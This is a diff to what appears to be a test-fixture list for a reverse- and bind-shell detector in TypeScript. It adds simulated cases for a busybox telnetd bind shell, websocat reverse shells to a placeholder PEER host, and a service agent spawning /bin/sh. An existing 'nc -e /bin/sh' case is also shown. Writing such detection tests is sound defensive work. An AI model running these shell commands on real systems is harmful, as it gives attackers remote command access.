@@ -8,6 +8,26 @@ export const TOOLS: readonly Attack[] = [
       .run(['nc', '-e', '/bin/sh', PEER, '4444'], { exe: '/usr/bin/nc.traditional' });
     becomes(nc, ['/bin/sh']);
   }),
+  attack('telnetd of busybox, a bind shell', 'execve', (host) => {
+    const telnetd = host
+      .running('/usr/sbin/cron')
+      .run(['busybox', 'telnetd', '-p', '9999', '-l', '/bin/sh'], { exe: '/bin/busybox' })
+      .listen(9999)
+      .accept(PEER);
+    typed(telnetd.fork().dup().exec(['/bin/sh']));
+  }),
+  attack('websocat', 'execve', (host) => {
+    const argv = ['websocat', '-E', `wss://${PEER}/x`, 'cmd:bash -i'];
+    spawns(host.login().run(argv), ['sh', '-c', 'bash -i']);
+  }),
+  attack('websocat without a shell in between', 'execve', (host) => {
+    const argv = ['websocat', `ws://${PEER}:8080`, 'exec:/bin/bash', '--binary'];
+    spawns(host.login().run(argv), ['/bin/bash']);
+  }),
+  attack('a program of Go by its service', 'network', (host) => {
+    const agent = host.running('/usr/lib/systemd/systemd').run(['/opt/app/agent']);
+    spawns(agent, ['/bin/sh']);
+  }),
   attack('nc -c', 'execve', (host) => {
     const nc = host
       .login()
